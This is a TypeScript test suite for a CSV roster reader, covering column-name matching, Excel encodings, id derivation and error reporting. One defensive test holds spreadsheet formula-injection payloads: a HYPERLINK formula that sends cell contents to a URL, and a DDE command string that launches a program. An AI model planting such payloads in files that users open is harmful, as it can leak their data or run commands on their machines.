import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { printFault } from "#config/fault";
import { readRoster, type KnownPeople } from "#config/roster/read-roster";

const known: KnownPeople = [
  { id: "ana", name: "Ana Ruiz", email: "ana@example.org" },
  { id: "chi", name: "Chi" },
];

function read(content: string | Uint8Array, people: KnownPeople = known) {
  const reading = readRoster(typeof content === "string" ? Buffer.from(content) : content, "r.csv", people);
  if (!reading.ok) throw new Error(reading.faults.map(printFault).join("\n"));
  return reading.roster;
}

function faults(content: string | Uint8Array): string[] {
  const reading = readRoster(typeof content === "string" ? Buffer.from(content) : content, "r.csv", known);
  if (reading.ok) throw new Error(`accepted: ${JSON.stringify(reading.roster)}`);
  return reading.faults.map(printFault);
}

describe("columns in any order, under any usual name", () => {
  test.each([
    ["id,name,email,phone,timeZone", "jo,Jo Groß,jo@example.org,+49 30 1,Europe/Berlin"],
    [
      "Time Zone\tE-Mail\tUser-ID\tPhone Number\tFull Name",
      "Europe/Berlin\tjo@example.org\tjo\t+49 30 1\tJo Groß",
    ],
    [
      "Kürzel;Vorname;Name;E-Mail-Adresse;Handy-Nr.;Handynummer;Zeitzone",
      "jo;Jo;Groß;jo@example.org;;+49 30 1;Europe/Berlin",
    ],
    [
      "Nom;Prénom;Courriel;Téléphone portable;Fuseau horaire;Identifiant",
      "Groß;Jo;jo@example.org;+49 30 1;Europe/Berlin;jo",
    ],
    [
      '"ID","Nachname","Vorname","Mail","Telefon","TZ"',
      '"jo","Groß","Jo","jo@example.org","+49 30 1","Europe/Berlin"',
    ],
  ])("%s", (header, row) => {
    expect(read(`${header}\n${row}\n`).people).toEqual([
      { id: "jo", name: "Jo Groß", email: "jo@example.org", phone: "+49 30 1", timeZone: "Europe/Berlin" },
    ]);
  });

  test("what has no place in a team file is said, with its name", () => {
    const { people, warnings } = read("id,name,Salary,Kostenstelle\njo,Jo,100,7\n");
    expect(people).toEqual([{ id: "jo", name: "Jo" }]);
    expect(warnings.map(printFault)).toEqual([
      'r.csv:1:1: warning: columns that a team file has no place for: "Salary", "Kostenstelle"',
    ]);
  });

  test("an empty cell says nothing about its person", () => {
    expect(read("id,name,email,phone\nana,,,\n").people).toEqual([{ id: "ana" }]);
  });
});

describe("encodings, as spreadsheets save them", () => {
  const text = "Kürzel;Name;E-Mail\r\njürgen;Jürgen Groß–Žižek;j@example.org\r\n".replace("jürgen", "jg");
  const utf16 = (bigEndian: boolean, mark: boolean): Uint8Array => {
    const bytes = Buffer.from((mark ? "\ufeff" : "") + text, "utf16le");
    return bigEndian ? bytes.swap16() : bytes;
  };
  test.each<[string, Uint8Array, string]>([
    ["UTF-8", Buffer.from(text), "utf-8"],
    ["UTF-8 with a mark", Buffer.from(`\ufeff${text}`), "utf-8"],
    ["UTF-16 of Excel's Unicode text", utf16(false, true), "utf-16le"],
    ["UTF-16 without a mark", utf16(false, false), "utf-16le"],
    ["big-endian UTF-16", utf16(true, true), "utf-16be"],
    ["big-endian UTF-16 without a mark", utf16(true, false), "utf-16be"],
  ])("%s", (_, bytes, encoding) => {
    const roster = read(bytes);
    expect(roster).toMatchObject({ encoding, delimiter: ";" });
    expect(roster.people).toEqual([{ id: "jg", name: "Jürgen Groß–Žižek", email: "j@example.org" }]);
  });

  test("Latin-1 with semicolons, as a German or French Excel saves it", () => {
    const latin1 = Buffer.from("Kürzel;Vorname;Name;Téléphone\r\njg;Jürgen;Groß;030 1\r\n", "latin1");
    expect(read(latin1)).toMatchObject({
      encoding: "windows-1252",
      people: [{ id: "jg", name: "Jürgen Groß", phone: "030 1" }],
    });
  });

  test("Excel's sep= line; lines still count from the top of the file", () => {
    expect(read("sep=;\r\nid;name\r\njo;Jo, the second\r\n").people).toEqual([
      { id: "jo", name: "Jo, the second" },
    ]);
    expect(faults("sep=;\r\nid;name;email\r\njo;Jo;none\r\n")[0]).toMatch(
      /^r\.csv:3:1: email: must be an e-mail address .*\(it is "none"\)$/,
    );
  });
});

describe("who is meant", () => {
  test("without an id: by address, else by name, else a new id is made of the name", () => {
    const { people } = read(
      "Name,Email\nAna Maria Ruiz,ANA@example.org\nchi,chi@example.org\nJürgen Groß,jg@example.org\nZoë O'Hara,z@example.org\n",
    );
    expect(people.map(({ id }) => id)).toEqual(["ana", "chi", "juergen-gross", "zoe-o-hara"]);
  });

  test("an id in capitals or with blanks is the id it means", () => {
    expect(read("id,name\nANA,Ana\nJo Gross,Jo\n").people.map(({ id }) => id)).toEqual(["ana", "jo-gross"]);
  });

  test("a second Ana Ruiz does not become the first one", () => {
    const people = [{ id: "ana-ruiz", name: "Ana", email: "ana@example.org" }];
    const reading = readRoster(Buffer.from("name,email\nAna Ruiz,other@example.org\n"), "r.csv", people);
    expect(reading.ok ? [] : reading.faults.map(printFault)).toEqual([
      'r.csv:2:1: id: would be "ana-ruiz", who has another address; add a column with ids',
    ]);
  });
});

describe("every fault at once, each with its line and column", () => {
  test("values, duplicates, cells too many, nobody's row", () => {
    expect(
      faults(
        "id,name,email,timeZone\nana,Ana,ana@,Europe/Berlni\njo,,jo@example.org,\n!!,X,,\nana,Again,,\na,b,c,d,e\n,,x@example.org,\n",
      ),
    ).toEqual([
      expect.stringMatching(/^r\.csv:2:1: email: must be an e-mail address .* \(it is "ana@"\)$/),
      expect.stringMatching(
        /^r\.csv:2:1: timeZone: unknown time zone "Europe\/Berlni", did you mean "Europe\/Berlin"\?/,
      ),
      expect.stringMatching(/^r\.csv:3:1: name: missing; must be a name$/),
      expect.stringMatching(/^r\.csv:4:1: id: must be an id .* \(it is "!!"\)$/),
      'r.csv:5:1: id: "ana" is on line 2 already; keep one of them',
      "r.csv:6:1: has 5 cells where the first line has 4; check the quotes in this row",
      "r.csv:7:1: id: neither an id nor a name to make one of; fill in one of them",
    ]);
  });

  test("no header, nothing, a broken quote, binary, far too large", () => {
    expect(faults("ana,Ana Ruiz\nben,Ben\n")[0]).toMatch(
      /^r\.csv:1:1: no column with a name or an id; .*\(it has "ana", "Ana Ruiz"\)$/,
    );
    expect(faults("")[0]).toMatch(/^r\.csv:1:1: empty/);
    expect(faults(" \n\n")[0]).toMatch(/^r\.csv:\d:1: (empty|no column)/);
    expect(faults('id,name\njo,"Jo\nben,Ben\n')[0]).toMatch(
      /^r\.csv:\d:1: not valid CSV: .*check the quotes/,
    );
    expect(faults(new Uint8Array(3000).map((_, index) => index % 256))[0]).toMatch(/^r\.csv:/);
    expect(faults(new Uint8Array(10 * 1024 * 1024 + 1))[0]).toContain("larger than 10 MiB");
    expect(faults(`id,name\n${"x,y\n".repeat(20_000)}`)[0]).toContain("more than 10000 people");
    expect(faults(`id,name\njo,${"x".repeat(100_000)}\n`)[0]).toMatch(/^r\.csv:/);
  });
});

test("what looks like a formula is text", () => {
  const name = '=HYPERLINK("http://example.org/?"&A1,"Jo")';
  expect(read(`id,name,phone\njo,"${name.replaceAll('"', '""')}",+49 30 1\n`).people).toEqual([
    { id: "jo", name, phone: "+49 30 1" },
  ]);
  expect(faults("id,name,email\njo,Jo,=cmd|' /C calc'!A0\n")[0]).toContain("must be an e-mail address");
});

test("no bytes make it throw", () => {
  fc.assert(
    fc.property(
      fc.oneof(
        fc.uint8Array({ maxLength: 300 }),
        fc.string({ unit: fc.constantFrom(...'id,name;\t"\n\r=a') }).map((text) => Buffer.from(text)),
      ),
      (bytes) => {
        expect(typeof readRoster(bytes, "r.csv", known).ok).toBe("boolean");
      },
    ),
    { numRuns: 2000 },
  );
});
